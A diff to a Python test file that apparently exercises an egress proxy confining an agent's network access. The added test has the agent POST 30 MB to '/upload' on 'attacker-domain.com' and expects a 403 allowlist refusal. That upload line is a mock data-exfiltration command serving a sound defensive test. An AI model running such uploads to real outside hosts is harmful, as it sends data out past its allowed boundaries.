@@ -148,6 +148,15 @@ def test_early_response(up):
     assert answer.startswith("HTTP/1.1 413 Too Large\r\n") and answer.endswith("\r\n\r\nstop")
 
 
+@pytest.mark.parametrize("client", ["HTTPSConnection", "HTTPConnection"])
+def test_refused_upload_is_told_why(world, client):
+    """A client that reads nothing before it has sent its megabytes: it is not reset before it has read our answer."""
+    code = (f"import http.client\nc = http.client.{client}('attacker-domain.com')\nc.request('POST', '/upload', body=bytes(30_000_000))\n"
+            "r = c.getresponse()\nprint(r.status, r.read().decode())")
+    p = world.agent("/usr/bin/python3", "-c", code)
+    assert p.stdout.startswith("403 ") and "is not in your workspace allowlist" in p.stdout, (p.stdout, p.stderr)
+
+
 def test_response_begins_while_the_body_goes_up(up):
     code = ("import os, socket, ssl\n"
             f"s = ssl.create_default_context(cafile=os.environ['SSL_CERT_FILE']).wrap_socket(socket.create_connection(('api.openai.com', {PORT})), server_hostname='api.openai.com')\n"
